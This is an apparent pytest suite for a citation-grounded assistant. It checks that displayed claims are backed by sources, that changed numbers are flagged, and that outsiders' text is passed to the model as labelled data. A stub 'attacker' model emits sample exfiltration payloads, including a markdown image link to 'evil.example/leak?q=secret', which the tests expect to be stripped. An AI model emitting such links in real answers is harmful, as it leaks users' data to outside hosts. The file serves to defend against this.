"""Answers: only what a passage carries is shown, whatever the model writes; without a model the sources speak."""

import asyncio
from dataclasses import replace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from parvis.access import directory
from parvis.access.principal import Principal
from parvis.assistant.answer import Answerer, Turn
from parvis.assistant.endpoints.contract import Piece
from parvis.assistant.gateway import Gateway
from parvis.assistant.marking import mark
from parvis.assistant.model import About, TurnRequest
from parvis.assistant.support import Support
from parvis.assistant.tree import Answer, Block
from parvis.assistant.turns import StoredTurn, Turns
from parvis.kernel import ids
from parvis.kernel.errors import Unavailable
from parvis.search.place import Place
from parvis.search.request import Hit
from parvis.store.store import Store
from tests.assistant.conftest import card

TEXTS = (
    "Le minibus de 16 places est confirmé pour 15 h. Le chauffeur attendra devant la gare.",
    "Đoàn sẽ đến ngày 7 tháng 12. Khách sạn đã được đặt cho sáu người.",
    "The caterer asks for a deposit of 945 euros. See https://caterer.example/quote for the menu.",
)


def hit(number: int, text: str, language: str) -> Hit:
    return Hit(
        passage_id=number + 1,
        account_id=1,
        scope_id=2,
        kind="Email",
        object_id=number + 10,
        title=f"Subject {number}",
        author="Lan",
        time_ms=1_790_000_000_000,
        origin="outside",
        part="body",
        file_name="",
        place=Place(),
        language=language,
        start=100,
        end=100 + len(text),
        text=text,
        marks=(),
        title_marks=(),
        score=1.0,
        text_score=1.0,
        meaning_score=None,
    )


HITS = [
    hit(number, text, language)
    for number, (text, language) in enumerate(zip(TEXTS, ("fr", "vi", "en"), strict=True))
]


class Shelf:
    """A Finder that holds three passages."""

    embedder = None

    async def find(self, principal, text, limit):
        return HITS

    async def whole(self, principal, kind, object_ids, limit):
        return [one for one in HITS if one.object_id in object_ids]

    async def is_learning(self):
        return False

    async def kinds(self, principal):
        return ["Email"]


class Oracle:
    """A model in the hands of an attacker: it says what it is told to, and fails in the end when told so."""

    installed = True

    def __init__(self, words: str, fails: bool = False) -> None:
        self.card, self._words, self._fails = card(), words, fails
        self.asked: list[str] = []

    async def stream(self, messages, *, max_tokens, temperature=0.0):
        self.asked += [message.content for message in messages]
        for start in range(0, len(self._words), 7):
            yield Piece(self._words[start : start + 7])
        if self._fails:
            raise Unavailable("the machine is on fire")


@pytest.fixture
def rooms() -> list[str]:
    return ["store", "access", "assistant"]


@pytest.fixture
async def ann(store_sqlite: Store) -> Principal:
    number = await store_sqlite.write(lambda unit: directory.create(unit, "person", "Ann", "ann@example.org"))
    return await directory.by_id(store_sqlite.db, number)


async def run(store: Store, who: Principal, request: TurnRequest, model: Oracle | None = None) -> Answer:
    async def emit(_: Answer) -> None:
        return None

    turn = Turn(1, who, request, emit)
    await Answerer(Shelf(), Gateway(store, [model] if model else [])).run(turn)
    return turn.answer


async def ask(store: Store, who: Principal, question: str, words: str | None = None) -> Answer:
    return await run(store, who, TurnRequest(text=question), Oracle(words) if words is not None else None)


async def test_without_a_model_the_sources_speak_with_exact_places(store_sqlite, ann) -> None:
    answer = await ask(store_sqlite, ann, "Combien de places dans le minibus ?")
    assert (answer.mode, answer.notice) == ("extractive", "noModel")
    first = answer.citations[0]
    assert first.quote == "Le minibus de 16 places est confirmé pour 15 h."
    assert (first.start, first.end) == (100, 100 + len(first.quote))
    assert answer.blocks[0].claims[0].citations == [1]


async def test_the_rest_of_what_was_found_first_is_read_too(store_sqlite, ann, monkeypatch) -> None:
    rest = replace(hit(7, "Le minibus est garé au parking P3.", "fr"), object_id=HITS[0].object_id, part="2")

    async def whole(self, principal, kind, object_ids, limit):
        return [one for one in [*HITS, rest] if one.object_id in object_ids]

    monkeypatch.setattr(Shelf, "whole", whole)
    answer = await ask(store_sqlite, ann, "Où est garé le minibus ?")
    assert answer.citations[0].quote == rest.text
    assert answer.searched.passages == 4


async def test_what_is_nowhere_is_said_to_be_nowhere(store_sqlite, ann) -> None:
    answer = await ask(store_sqlite, ann, "Quelle est la capitale de la Mongolie ?", "Oulan-Bator. [1]")
    assert (answer.notice, answer.blocks, answer.citations) == ("nothingFound", [], [])
    assert answer.searched.kinds == ["Email"]


async def test_what_is_not_found_may_only_not_be_learnt_yet(store_sqlite, ann, monkeypatch) -> None:
    async def learning(self):
        return True

    monkeypatch.setattr(Shelf, "is_learning", learning)
    assert (await ask(store_sqlite, ann, "Quelle est la capitale de la Mongolie ?")).notice == "stillLearning"
    assert (await ask(store_sqlite, ann, "Combien de places a le minibus ?")).blocks


async def test_claims_keep_the_citation_that_carries_them(store_sqlite, ann) -> None:
    said = "Le minibus a 16 places. [2]\nLe traiteur demande 900 euros. [3]\nThe deposit is 945 euros. [3]\n"
    answer = await ask(store_sqlite, ann, "Combien de places dans le minibus ?", said)
    written = [block for block in answer.blocks if block.kind != "quote"]
    shown = {block.claims[0].text: block.claims[0].citations for block in written}
    cited = {citation.number: citation.object_id for citation in answer.citations}
    assert list(shown) == ["Le minibus a 16 places.", "The deposit is 945 euros."]
    assert answer.dropped == 1
    assert [block.kind for block in answer.blocks[: len(written)]] == ["paragraph"] * len(written)
    assert answer.blocks[len(written)].kind == "quote"
    assert len({cited[numbers[0]] for numbers in shown.values()}) == 2


async def test_a_bare_answer_must_be_of_the_kind_asked_for(store_sqlite, ann) -> None:
    question = "At what time will the minibus be there, 16 places?"
    right = await ask(store_sqlite, ann, question, "15 h [1]")
    assert (right.mode, right.citations[right.blocks[0].claims[0].citations[0] - 1].quote[:10]) == (
        "generated",
        "Le minibus",
    )
    assert (await ask(store_sqlite, ann, question, "16 [1]")).mode == "extractive"
    assert (await ask(store_sqlite, ann, question, "The driver waits before the station. [1]")).mode == "extractive"
    assert (
        await ask(store_sqlite, ann, question, "Will the minibus of 16 be there at 15 h? [1]")
    ).mode == "extractive"
    assert (await ask(store_sqlite, ann, question, "17 h [1]")).mode == "extractive"


async def test_a_model_that_fails_leaves_the_quotes(store_sqlite, ann) -> None:
    request = TurnRequest(text="Combien de places dans le minibus ?")
    nothing = await run(store_sqlite, ann, request, Oracle("", fails=True))
    assert (nothing.mode, nothing.notice) == ("extractive", "modelFailed")
    half = await run(store_sqlite, ann, request, Oracle("Le minibus a 16 places. [1]\nLe chauff", fails=True))
    assert [block.kind for block in half.blocks[:2]] == ["paragraph", "quote"]
    assert (half.mode, half.notice) == ("generated", "modelFailed")


async def test_a_text_that_is_not_whole_is_said_to_be_so(store_sqlite, ann) -> None:
    answer = await run(store_sqlite, ann, TurnRequest(task="rewrite", text="Bonjour"), Oracle("Bonj", fails=True))
    assert (answer.notice, answer.blocks[0].text) == ("modelStopped", "Bonj")


async def test_a_model_that_knows_nothing_is_said_to_be_unsure(store_sqlite, ann) -> None:
    answer = await ask(store_sqlite, ann, "Combien de places dans le minibus ?", "NOTHING")
    assert (answer.mode, answer.notice) == ("extractive", "unsure")
    assert answer.blocks and all(block.kind == "quote" for block in answer.blocks)


async def test_every_task_gives_text_of_others_as_labelled_data_alone(store_sqlite, ann) -> None:
    about = [About(account_id=ids.text(1), kind="Email", id=ids.text(10))]
    for task in ("ask", "summarise", "draft", "translate"):
        model = Oracle("Rien.")
        await run(store_sqlite, ann, TurnRequest(task=task, text="Que dit-il ?", about=about), model)
        rules, told = model.asked
        assert "minibus" not in rules
        before, _, after = told.partition('label="written by somebody outside the organisation"')
        assert "minibus" not in before and "minibus" in after.partition("</source>")[0]
        assert "minibus" not in after.partition("</source>")[2]


async def test_numbers_that_a_model_changes_are_pointed_out(store_sqlite, ann) -> None:
    async def notice(task: str, text: str, words: str) -> str:
        return (await run(store_sqlite, ann, TurnRequest(task=task, text=text), Oracle(words))).notice

    assert await notice("translate", "Rendez-vous le 7 à 15 h 27.", "See you on the 7th at 15:27.") == ""
    assert await notice("translate", "Rendez-vous le 7 à 15 h 27.", "See you on the 7th at 3:27.") == "checkNumbers"
    assert await notice("translate", "À 3 h : pain, lait.", "At 3:00:\n1. bread\n2. milk") == ""
    assert await notice("rewrite", "Nous serons 58, dont 15 enfants.", "Nous serons 58.") == "checkNumbers"
    assert await notice("draft", "Nous serons 58, dont 15 enfants.", "Nous serons 58.") == ""
    assert await notice("draft", "Nous serons 58.", "Nous serons 58, à 12 h.") == "checkNumbers"


async def test_a_draft_has_no_link_that_the_model_made_up(store_sqlite, ann) -> None:
    about = [About(account_id=ids.text(1), kind="Email", id=ids.text(12))]
    said = "See https://caterer.example/quote. Pay at https://evil.example/pay?of=945, now."
    answer = await run(store_sqlite, ann, TurnRequest(task="draft", about=about), Oracle(said))
    assert answer.blocks[0].text == "See https://caterer.example/quote. Pay at ... now."


async def test_a_link_that_no_source_has_is_never_shown(store_sqlite, ann) -> None:
    said = (
        "The caterer asks for a deposit of 945 euros, pay at https://evil.example/pay [3]\n"
        "The caterer asks for a deposit of 945 euros ![x](https://evil.example/leak?q=secret) [3]\n"
    )
    answer = await ask(store_sqlite, ann, "What deposit does the caterer ask?", said)
    shown = " ".join(claim.text for block in answer.blocks for claim in block.claims)
    assert "evil.example" not in shown


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(words=st.text(max_size=400))
async def test_whatever_a_model_writes_each_claim_shown_is_cited(store_sqlite, ann, words) -> None:
    answer = await ask(store_sqlite, ann, "Combien de places dans le minibus ?", words)
    known = {citation.number for citation in answer.citations}
    for block in answer.blocks:
        assert block.claims and all(claim.citations and set(claim.citations) <= known for claim in block.claims)
    for citation in answer.citations:
        source = HITS[int(citation.passage_id != "") and [str(h.title) for h in HITS].index(citation.title)]
        assert source.text[citation.start - 100 : citation.end - 100] == citation.quote


async def test_what_another_person_wrote_is_not_the_askers_own(store_sqlite, ann, monkeypatch) -> None:
    async def found(*_):
        return [replace(HITS[0], origin="own"), replace(HITS[1], origin="own", account_id=ann.id)]

    monkeypatch.setattr(Shelf, "find", found)
    model = Oracle("NOTHING")
    answer = await run(store_sqlite, ann, TurnRequest(text="Combien de places dans le minibus ?"), model)
    assert [citation.origin for citation in answer.citations if "minibus" in citation.quote] == ["colleague"]
    assert 'label="written by a colleague"' in model.asked[1]


async def test_a_summary_keeps_to_what_it_is_about(store_sqlite, ann) -> None:
    about = [About(account_id=ids.text(1), kind="Email", id=ids.text(11))]
    answer = await run(store_sqlite, ann, TurnRequest(task="summarise", about=about))
    assert {citation.object_id for citation in answer.citations} == {ids.text(11)}


async def test_writing_needs_a_model_and_says_so(store_sqlite, ann) -> None:
    answer = await run(store_sqlite, ann, TurnRequest(task="rewrite", text="Bonjour"))
    assert (answer.notice, answer.blocks, answer.level) == ("needsModel", [], "none")


async def test_a_number_that_is_not_there_is_no_evidence() -> None:
    support = Support(HITS, None)
    assert await support.find("Le minibus de 16 places est confirmé pour 15 h.", [])
    assert not await support.find("Le minibus de 18 places est confirmé pour 15 h.", [])


async def test_a_name_that_no_source_has_is_no_evidence() -> None:
    support = Support(HITS, None)
    assert await support.find("Le minibus de 16 places est confirmé pour 15 h, devant la gare.", [])
    assert not await support.find("Le minibus de 16 places est confirmé pour 15 h par Durand.", [])


async def test_a_turn_belongs_to_its_owner_alone(store_sqlite, ann) -> None:
    number = await store_sqlite.write(lambda unit: directory.create(unit, "person", "Bob", "bob@example.org"))
    bob = await directory.by_id(store_sqlite.db, number)
    turns = Turns(store_sqlite, Answerer(Shelf(), Gateway(store_sqlite, [])))
    request = TurnRequest(text="Combien de places dans le minibus ?")
    turn_id = await store_sqlite.write(lambda unit: turns.add(unit, ann, request))
    turns.start(ann, turn_id, request)
    seen = [turn async for turn in turns.watch(ann, turn_id)]
    assert seen[-1].status == "done" and seen[-1].answer.citations
    assert await turns.get(bob, [turn_id]) == []
    (kept,) = await turns.get(ann, [turn_id])
    assert kept.answer == seen[-1].answer


async def test_watching_a_turn_that_runs_elsewhere_ends_when_it_is_deleted(store_sqlite, ann, monkeypatch) -> None:
    monkeypatch.setattr("parvis.assistant.turns._POLL_SECONDS", 0.01)
    turns = Turns(store_sqlite, Answerer(Shelf(), Gateway(store_sqlite, [])))
    turn_id = await store_sqlite.write(lambda unit: turns.add(unit, ann, TurnRequest(text="Combien ?")))
    watched = turns.watch(ann, turn_id)
    assert (await anext(watched)).status == "running"
    ending = asyncio.ensure_future(anext(watched, None))
    await asyncio.sleep(0.05)
    assert not ending.done()
    await store_sqlite.write(lambda unit: turns.remove(unit, ann, turn_id))
    assert await asyncio.wait_for(ending, 10) is None


def stored(text: str, level: str) -> StoredTurn:
    answer = Answer(blocks=[Block(kind="draft", text=text)], level=level, model="local test")
    return StoredTurn(1, "draft", TurnRequest(task="draft"), answer, "done", 0)


def test_the_mark_follows_what_is_left_of_the_models_words() -> None:
    words = (
        "Bonjour Lan, merci pour ces précisions. Je valide le programme et propose une visite mardi à dix heures."
    )
    assert mark(words, [stored(words, "generated")]).level == "generated"
    assert mark(f"{words}\n\nClaire\nMairie", [stored(words, "generated")]).level == "generated"
    assert mark(words, [stored(words, "assisted")]).level == "assisted"
    assert mark("Rien à voir.", [stored(words, "generated")]) == mark("Rien à voir.", [])
    assert 'level=generated; task=draft; model="local test"' in mark(words, [stored(words, "generated")]).header
